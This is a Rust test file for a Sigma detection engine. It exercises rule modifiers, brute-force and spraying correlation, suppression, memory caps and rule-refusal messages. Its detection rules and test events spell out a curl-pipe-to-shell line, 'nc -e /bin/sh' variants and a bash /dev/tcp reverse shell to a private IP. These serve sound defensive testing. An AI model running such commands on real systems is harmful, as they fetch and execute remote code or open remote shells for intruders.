//! Engine behaviour over hand-written rules and hand-built events.

use chrono::Duration;
use ironpost_core::event::{LogRecord, ProcessEvent};
use ironpost_core::{Event, Severity};
use ironpost_sigma::examples::example_epoch;
use ironpost_sigma::{Engine, EngineConfig, FileStatus, Loader, LogSourceMap, SigmaAlert};

fn engine(rules: &[&str], config: EngineConfig) -> Engine {
    let mut loader = Loader::new(LogSourceMap::default_map(), config);
    for (i, r) in rules.iter().enumerate() {
        loader.add_file(&format!("rule{i}.yml"), r);
    }
    let (engine, report) = loader.build();
    for f in &report.files {
        assert_eq!(f.status, FileStatus::Loaded, "{}: {:?}", f.path, f.reason);
    }
    engine
}

fn refusal(rule: &str) -> (FileStatus, String) {
    let mut loader = Loader::new(LogSourceMap::default_map(), EngineConfig::default());
    loader.add_file("bad.yml", rule);
    let (_, report) = loader.build();
    (
        report.files[0].status,
        report.files[0].reason.clone().unwrap_or_default(),
    )
}

fn sshd(at: i64, message: &str, fields: &[(&str, &str)]) -> Event {
    let mut rec = LogRecord::new("auth", "rfc3164", message);
    rec.timestamp = example_epoch() + Duration::seconds(at);
    rec.service = Some("sshd".into());
    for (k, v) in fields {
        rec.fields.insert(*k, *v);
    }
    Event::Log(rec)
}

fn process(image: &str, cmd: &str) -> Event {
    Event::Process(ProcessEvent {
        timestamp: example_epoch(),
        pid: 2,
        ppid: 1,
        uid: 0,
        gid: 0,
        user: Some("root".into()),
        image: image.into(),
        argv: cmd.split(' ').map(str::to_owned).collect(),
        argv_truncated: false,
        command_line: cmd.into(),
        cwd: None,
        parent_image: Some("/bin/bash".into()),
        parent_command_line: None,
        cgroup_id: 0,
        container: None,
    })
}

fn run(engine: &mut Engine, events: &[Event]) -> Vec<SigmaAlert> {
    let mut out = Vec::new();
    for e in events {
        engine.process(e, &mut |a| out.push(a));
    }
    out
}

const PROC_RULE: &str = r#"
title: Modifiers
id: mods
level: high
tags: [attack.execution]
logsource: {product: linux, category: process_creation}
detection:
  sel_img:
    Image|endswith: ['/curl', '/wget']
  sel_cli:
    CommandLine|contains|all: ['http', '| sh']
  sel_re:
    CommandLine|re|i: 'BASE64\s+-D'
  sel_b64:
    CommandLine|base64offset|contains: '/bin/bash'
  sel_cidr:
    CommandLine|cidr: 10.0.0.0/8
  sel_wild:
    CommandLine: 'nc* -e /bin/?h'
  filter_null:
    ParentCommandLine: null
  sel_cased:
    CommandLine|cased|contains: 'CaseSensitive'
  condition: (all of sel_i* and sel_cli) or sel_re or sel_b64 or sel_cidr or sel_wild or sel_cased and filter_null
"#;

#[test]
fn modifiers_match_what_they_say() {
    let mut e = engine(&[PROC_RULE], EngineConfig::default());
    let hit =
        |e: &mut Engine, img: &str, cmd: &str| !e.matching_rules(&process(img, cmd)).is_empty();
    assert!(hit(&mut e, "/usr/bin/curl", "curl HTTP://x/a.sh | sh"));
    assert!(
        !hit(&mut e, "/usr/bin/curl", "curl http://x/a.sh"),
        "all needs both values"
    );
    assert!(
        !hit(&mut e, "/usr/bin/ls", "ls http | sh"),
        "endswith on the image"
    );
    assert!(
        hit(&mut e, "/usr/bin/x", "echo aGk= | base64   -d"),
        "re with i"
    );
    assert!(!hit(&mut e, "/usr/bin/x", "echo | base32 -d"));
    // "echo L2Jpbi9iYXNo" is /bin/bash in base64 at offset 0; "xL2Jpbi9iYXNo" too.
    assert!(hit(&mut e, "/usr/bin/x", "echo L2Jpbi9iYXNoIC1p | base64"));
    assert!(
        hit(&mut e, "/usr/bin/x", "10.1.2.3"),
        "cidr on a text field"
    );
    assert!(!hit(&mut e, "/usr/bin/x", "11.1.2.3"));
    assert!(
        hit(&mut e, "/usr/bin/x", "NCAT -e /bin/sh"),
        "wildcards, case-insensitive"
    );
    assert!(hit(&mut e, "/usr/bin/x", "run CaseSensitive now"));
    assert!(!hit(&mut e, "/usr/bin/x", "run casesensitive now"), "cased");
}

#[test]
fn keywords_numbers_exists_and_fieldref() {
    let rule = r#"
title: Keywords
id: kw
logsource: {product: linux, service: sshd}
detection:
  keywords:
    - 'Failed password'
    - 'authentication failure'
  port:
    src_port|gte: 1024
  ip_exists:
    src_ip|exists: true
  same:
    user|fieldref: target
  condition: keywords and port and ip_exists or same
"#;
    let mut e = engine(&[rule], EngineConfig::default());
    let m = |e: &mut Engine, ev: Event| !e.matching_rules(&ev).is_empty();
    assert!(m(
        &mut e,
        sshd(
            0,
            "Failed password for root",
            &[("src_port", "40000"), ("src_ip", "1.2.3.4")]
        )
    ));
    assert!(!m(
        &mut e,
        sshd(
            0,
            "Failed password for root",
            &[("src_port", "22"), ("src_ip", "1.2.3.4")]
        )
    ));
    assert!(
        !m(
            &mut e,
            sshd(0, "failed PASSWORD for root", &[("src_port", "40000")])
        ),
        "exists"
    );
    assert!(
        m(&mut e, sshd(0, "x", &[("user", "Bob"), ("target", "bob")])),
        "fieldref"
    );
    // Routing: the same line from another service never reaches the rule.
    let mut other = sshd(
        0,
        "Failed password",
        &[("src_port", "40000"), ("src_ip", "1.2.3.4")],
    );
    if let Event::Log(r) = &mut other {
        r.service = Some("cron".into());
    }
    assert!(!m(&mut e, other));
}

#[test]
fn global_filters_exclude_their_matches() {
    let rule = "title: R\nname: r\nid: r1\nlogsource: {product: linux, service: sshd}\ndetection:\n  sel: {user: [root, admin]}\n  condition: sel\n";
    let filter = "title: F\nlogsource: {product: linux}\nfilter:\n  rules: [r]\n  selection: {src_ip|cidr: 10.0.0.0/8}\n  condition: selection\n";
    let mut e = engine(&[rule, filter], EngineConfig::default());
    assert_eq!(
        e.matching_rules(&sshd(0, "", &[("user", "root"), ("src_ip", "8.8.8.8")])),
        vec!["r1"]
    );
    assert!(
        e.matching_rules(&sshd(0, "", &[("user", "root"), ("src_ip", "10.9.9.9")]))
            .is_empty()
    );
}

const BRUTE: &str = r#"
title: Failure
name: failure
id: base-failure
logsource: {product: linux, service: sshd}
detection:
  sel: 'Failed password'
  condition: sel
---
title: Brute force
id: brute
level: high
correlation:
  type: event_count
  rules: [failure]
  group-by: [src_ip]
  timespan: 2m
  condition: {gte: 3}
"#;

#[test]
fn event_count_fires_per_group_in_a_sliding_window() {
    let mut e = engine(
        &[BRUTE],
        EngineConfig {
            suppression_secs: 0,
            ..EngineConfig::default()
        },
    );
    let fail = |at, ip| sshd(at, "Failed password for root", &[("src_ip", ip)]);
    // Two from A, then a third 130 s after the first: outside 2 minutes, no alert.
    let alerts = run(
        &mut e,
        &[
            fail(0, "1.1.1.1"),
            fail(60, "1.1.1.1"),
            fail(130, "2.2.2.2"),
            fail(130, "1.1.1.1"),
        ],
    );
    assert!(alerts.is_empty(), "{alerts:?}");
    // A fourth within 2 minutes of the second: 60, 130, 150.
    let alerts = run(&mut e, &[fail(150, "1.1.1.1")]);
    assert_eq!(alerts.len(), 1);
    let a = &alerts[0].alert;
    assert_eq!(a.rule_id, "brute");
    assert_eq!(a.severity, Severity::High);
    assert_eq!(a.count, 3);
    assert_eq!(a.group.get("src_ip").map(String::as_str), Some("1.1.1.1"));
    assert_eq!(a.window_start, example_epoch() + Duration::seconds(60));
    assert_eq!(a.evidence.len(), 3);
    assert_eq!(
        a.id,
        ironpost_core::AlertId::derive("brute", "src_ip=1.1.1.1", a.window_start)
    );
    // The base rule is referenced without `generate`, so it raised nothing by itself.
    assert_eq!(e.stats().alerts, 1);
}

#[test]
fn suppression_holds_back_repeats_of_the_same_group() {
    let mut e = engine(
        &[BRUTE],
        EngineConfig {
            suppression_secs: 600,
            ..EngineConfig::default()
        },
    );
    let fail = |at, ip| sshd(at, "Failed password", &[("src_ip", ip)]);
    let events: Vec<Event> = (0..9)
        .map(|i| fail(i, "1.1.1.1"))
        .chain((0..3).map(|i| fail(i, "2.2.2.2")))
        .collect();
    let alerts = run(&mut e, &events);
    assert_eq!(alerts.len(), 2, "one per source; repeats are suppressed");
    assert_eq!(e.stats().suppressed, 2);
}

#[test]
fn temporal_ordered_needs_the_order() {
    let rules = r#"
title: Fail
name: fail
logsource: {product: linux, service: sshd}
detection: {sel: 'Failed password', condition: sel}
---
title: Ok
name: ok
logsource: {product: linux, service: sshd}
detection: {sel: 'Accepted password', condition: sel}
---
title: Success after failure
id: seq
correlation:
  type: temporal_ordered
  rules: [fail, ok]
  group-by: [user]
  timespan: 5m
"#;
    let mut e = engine(
        &[rules],
        EngineConfig {
            suppression_secs: 0,
            ..EngineConfig::default()
        },
    );
    let ok = sshd(10, "Accepted password", &[("user", "bob")]);
    let fail = sshd(20, "Failed password", &[("user", "bob")]);
    assert!(
        run(&mut e, &[ok.clone(), fail]).is_empty(),
        "success before failure"
    );
    let alerts = run(&mut e, &[sshd(30, "Accepted password", &[("user", "bob")])]);
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].alert.rule_id, "seq");
    // Another user's success does not complete bob's sequence.
    assert!(
        run(
            &mut e,
            &[
                sshd(40, "Failed password", &[("user", "bob")]),
                sshd(41, "Accepted password", &[("user", "eve")])
            ]
        )
        .is_empty()
    );
}

#[test]
fn value_count_and_temporal() {
    let rules = r#"
title: Fail
name: fail
logsource: {product: linux, service: sshd}
detection: {sel: 'Failed password', condition: sel}
---
title: Spray
id: spray
correlation:
  type: value_count
  rules: [fail]
  group-by: [src_ip]
  timespan: 10m
  condition: {field: user, gte: 3}
"#;
    let mut e = engine(
        &[rules],
        EngineConfig {
            suppression_secs: 0,
            ..EngineConfig::default()
        },
    );
    let f = |at, u| sshd(at, "Failed password", &[("user", u), ("src_ip", "9.9.9.9")]);
    assert!(run(&mut e, &[f(0, "a"), f(1, "a"), f(2, "b"), f(3, "b")]).is_empty());
    let alerts = run(&mut e, &[f(4, "c")]);
    assert_eq!(alerts.len(), 1);
    assert_eq!(
        alerts[0].alert.group.get("src_ip").map(String::as_str),
        Some("9.9.9.9")
    );
}

#[test]
fn a_value_count_group_under_its_threshold_stays_small_however_often_it_matches() {
    let rules = r#"
title: Fail
name: fail
logsource: {product: linux, service: sshd}
detection: {sel: 'Failed password', condition: sel}
---
title: Spray
id: spray
correlation:
  type: value_count
  rules: [fail]
  group-by: [src_ip]
  timespan: 10m
  condition: {field: user, gte: 3}
"#;
    let mut e = engine(
        &[rules],
        EngineConfig {
            suppression_secs: 0,
            ..EngineConfig::default()
        },
    );
    let users = ["a", "b"];
    let events: Vec<Event> = (0..20_000)
        .map(|i| {
            sshd(
                i / 100,
                "Failed password",
                &[("user", users[(i % 2) as usize]), ("src_ip", "9.9.9.9")],
            )
        })
        .collect();
    assert!(run(&mut e, &events).is_empty());
    let s = e.stats();
    assert_eq!(s.correlation_groups, 1);
    assert!(
        s.correlation_bytes < 8_192,
        "two distinct values, 20 000 matches: {s:?}"
    );
    // The third distinct value fires, with the distinct count.
    let alerts = run(
        &mut e,
        &[sshd(
            300,
            "Failed password",
            &[("user", "c"), ("src_ip", "9.9.9.9")],
        )],
    );
    assert_eq!(alerts.len(), 1);
    assert_eq!(alerts[0].alert.count, 3);
}

#[test]
fn correlation_memory_is_capped_with_counted_lru_eviction() {
    let cap = 4096;
    let mut e = engine(
        &[BRUTE],
        EngineConfig {
            suppression_secs: 0,
            correlation_memory_bytes: cap,
            ..EngineConfig::default()
        },
    );
    // An attacker spraying distinct sources...
    let events: Vec<Event> = (0..200)
        .map(|i| {
            sshd(
                i,
                "Failed password",
                &[("src_ip", &format!("10.0.{}.{}", i / 250, i % 250))],
            )
        })
        .collect();
    run(&mut e, &events);
    let s = e.stats();
    assert!(s.correlation_bytes as usize <= cap, "{s:?}");
    assert!(s.correlation_evictions > 150, "{s:?}");
    assert!(
        s.correlation_groups > 0,
        "eviction is per group, never a reset"
    );
    // ...does not stop a recent group from completing.
    let alerts = run(
        &mut e,
        &[
            sshd(300, "Failed password", &[("src_ip", "7.7.7.7")]),
            sshd(301, "Failed password", &[("src_ip", "7.7.7.7")]),
            sshd(302, "Failed password", &[("src_ip", "7.7.7.7")]),
        ],
    );
    assert_eq!(alerts.len(), 1);
}

#[test]
fn refusals_name_the_reason() {
    let base = "title: T\nlogsource: {product: linux}\ndetection:\n";
    let cases = [
        (format!("{base}  sel: {{a|nosuch: x}}\n  condition: sel\n"), FileStatus::Invalid, "unknown modifier `nosuch`"),
        (format!("{base}  sel: {{a: x}}\n  condition: sel and other\n"), FileStatus::Invalid, "unknown search identifier `other`"),
        (format!("{base}  sel: {{a: x}}\n  condition: sel | count() > 5\n"), FileStatus::Unsupported, "aggregation"),
        (format!("{base}  sel: {{a|re: '(?<=x)y'}}\n  condition: sel\n"), FileStatus::Unsupported, "look-around"),
        (format!("{base}  sel: {{a|expand: '%admins%'}}\n  condition: sel\n"), FileStatus::Unsupported, "%admins%"),
        (format!("{base}  sel: {{a|cidr: 'nonsense'}}\n  condition: sel\n"), FileStatus::Invalid, "not a CIDR"),
        ("title: T\ndetection: {sel: x, condition: sel}\n".to_owned(), FileStatus::Invalid, "logsource: missing"),
        ("title: [unclosed\n".to_owned(), FileStatus::Invalid, "YAML"),
        ("title: C\ncorrelation: {type: event_count, rules: [ghost], group-by: [a], timespan: 1m, condition: {gte: 2}}\n".to_owned(), FileStatus::Invalid, "`ghost`"),
    ];
    for (rule, status, needle) in cases {
        let (s, reason) = refusal(&rule);
        assert_eq!(s, status, "{rule}: {reason}");
        assert!(
            reason.contains(needle),
            "{reason:?} should mention {needle:?}"
        );
    }
}

#[test]
fn expand_uses_configured_placeholders() {
    let rule = "title: T\nid: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  sel: {user|expand: '%admins%'}\n  condition: sel\n";
    let mut config = EngineConfig::default();
    config
        .placeholders
        .insert("admins".into(), vec!["root".into(), "ops".into()]);
    let mut e = engine(&[rule], config);
    assert_eq!(
        e.matching_rules(&sshd(0, "", &[("user", "ops")])),
        vec!["t"]
    );
    assert!(
        e.matching_rules(&sshd(0, "", &[("user", "bob")]))
            .is_empty()
    );
}

#[test]
fn single_event_alerts_are_grouped_by_source_for_suppression() {
    let rule = "title: T\nid: t\nlogsource: {product: linux, service: sshd}\ndetection:\n  sel: 'Accepted password'\n  condition: sel\n";
    let mut e = engine(
        &[rule],
        EngineConfig {
            suppression_secs: 60,
            ..EngineConfig::default()
        },
    );
    let ok = |at, ip| {
        sshd(
            at,
            "Accepted password for bob",
            &[("src_ip", ip), ("user", "bob")],
        )
    };
    let alerts = run(
        &mut e,
        &[
            ok(0, "1.1.1.1"),
            ok(1, "1.1.1.1"),
            ok(2, "2.2.2.2"),
            ok(90, "1.1.1.1"),
        ],
    );
    let groups: Vec<String> = alerts
        .iter()
        .map(|a| ironpost_core::Alert::group_key(&a.alert.group))
        .collect();
    assert_eq!(
        groups,
        vec![
            "src_ip=1.1.1.1,user=bob",
            "src_ip=2.2.2.2,user=bob",
            "src_ip=1.1.1.1,user=bob"
        ]
    );
    assert_eq!(e.stats().suppressed, 1);
    assert_eq!(alerts[0].alert.count, 1);
    assert_eq!(alerts[0].alert.evidence.len(), 1);
}

/// Rules whose prefilter has several clauses (all fields of a selection, pairs across `1 of`)
/// and keyword rules read through the scan merged with `message` or `CommandLine`: the prefilter
/// may only skip rules that cannot match.
#[test]
fn the_prefilter_never_hides_a_match() {
    let rules = [
        r#"
title: Audit discovery
id: audit-multi
logsource: {product: linux, service: auditd}
detection:
  sel_exec:
    type: EXECVE
    a0: getcap
    a1: '-r'
  sel_path:
    type: PATH
    name|endswith: ['/shadow', '/passwd']
  condition: 1 of sel_*
"#,
        r#"
title: Copy tools
id: kw-copy
logsource: {product: linux}
detection:
  tools: ['scp ', 'rsync ']
  filter: ['@', ':']
  condition: tools and filter
"#,
        r#"
title: Invalid user
id: msg-invalid
logsource: {product: linux, service: sshd}
detection:
  selection:
    message|contains: 'invalid user'
  condition: selection
"#,
        r#"
title: Reverse shell
id: proc-revshell
logsource: {product: linux, category: process_creation}
detection:
  kw: ['/dev/tcp/']
  sel:
    CommandLine|contains: 'bash -i'
  filter:
    Image|endswith: '/sshd'
  condition: (kw or sel) and not filter
"#,
    ];
    let mut e = engine(&rules, EngineConfig::default());
    let audit = |fields: &[(&str, &str)]| {
        let mut rec = LogRecord::new("audit", "auditd", "");
        let msg: Vec<String> = fields.iter().map(|(k, v)| format!("{k}={v}")).collect();
        rec.message = msg.join(" ");
        for (k, v) in fields {
            rec.fields.insert(*k, *v);
        }
        Event::Log(rec)
    };
    let events = [
        audit(&[("type", "EXECVE"), ("a0", "getcap"), ("a1", "-r")]),
        audit(&[("type", "EXECVE"), ("a0", "getcap"), ("a1", "-v")]),
        audit(&[("type", "PATH"), ("a0", "getcap"), ("a1", "-r")]),
        audit(&[("type", "PATH"), ("name", "/etc/shadow")]),
        audit(&[("type", "EXECVE"), ("name", "/etc/shadow")]),
        audit(&[("type", "EXECVE"), ("a0", "scp "), ("a1", "x@y:/z")]),
        sshd(0, "Invalid user admin from 10.0.0.1", &[]),
        sshd(0, "scp x@y:/tmp invalid user", &[]),
        sshd(0, "rsync started", &[]),
        process("/usr/bin/bash", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        process("/usr/sbin/sshd", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
        process("/usr/bin/bash", "cat /dev/tcp/x"),
        process("/usr/bin/scp", "scp a@b:/c ."),
        process("/usr/bin/ls", "ls"),
    ];
    let want: [&[&str]; 14] = [
        &["audit-multi"],
        &[],
        &[],
        &["audit-multi"],
        &[],
        &["kw-copy"],
        &["msg-invalid"],
        &["kw-copy", "msg-invalid"],
        &[],
        &["proc-revshell"],
        &[],
        &["proc-revshell"],
        &["kw-copy"],
        &[],
    ];
    for (ev, want) in events.iter().zip(want) {
        let mut got = e.matching_rules(ev);
        got.sort();
        let mut all = e.matching_rules_unfiltered(ev);
        all.sort();
        assert_eq!(got, all, "{ev:?}");
        assert_eq!(got, want, "{ev:?}");
    }
}
